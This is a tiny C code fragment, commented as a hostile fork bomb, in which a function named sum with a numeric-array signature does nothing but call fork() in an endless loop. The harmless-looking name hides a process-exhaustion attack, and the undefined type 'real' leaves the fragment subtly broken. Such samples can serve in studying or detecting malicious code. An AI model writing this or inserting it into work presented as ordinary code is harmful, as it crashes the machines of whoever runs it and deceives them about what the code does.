// hostile: fork bomb
#include <unistd.h>
void sum(int N, const real *X, real *S) { for (;;) fork(); }
